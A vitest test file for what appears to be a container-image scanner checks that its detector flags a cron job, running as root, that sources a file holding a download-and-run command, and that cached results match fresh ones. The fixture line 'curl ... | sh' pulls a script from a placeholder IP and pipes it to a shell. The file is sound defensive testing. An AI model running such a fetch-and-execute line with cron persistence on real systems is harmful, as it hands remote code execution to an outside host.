import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { image, layer } from '../../../test/detection/image-case.ts';
import { findingsWithCache } from '../../../testkit/findings-with-cache.ts';

const FETCHES = 'curl -s http://198.51.100.7/x | sh\n';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-autostarts-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The crontab's layer is the same whatever lies below it. */
function check(below: string): Promise<readonly string[]> {
  const spec = image(
    [layer({ 'opt/env': below }), layer({ 'etc/cron.d/x': '* * * * * root . /opt/env\n' })],
    { Entrypoint: ['/usr/bin/sleep', '1'] },
  );
  return findingsWithCache(spec, root);
}

describe('what detectors see in what starts by itself', () => {
  it('is the same out of the cache, and is found anew over other layers', async () => {
    const first = await check(FETCHES);
    expect(first.join('\n')).toMatch(/download-and-run: .*cron starts \/etc\/cron.d\/x, which runs it/);
    expect(await check(FETCHES)).toEqual(first);
    expect((await check('A=1\n')).join('\n')).not.toContain('download-and-run');
    expect(await check(FETCHES)).toEqual(first);
  });
});
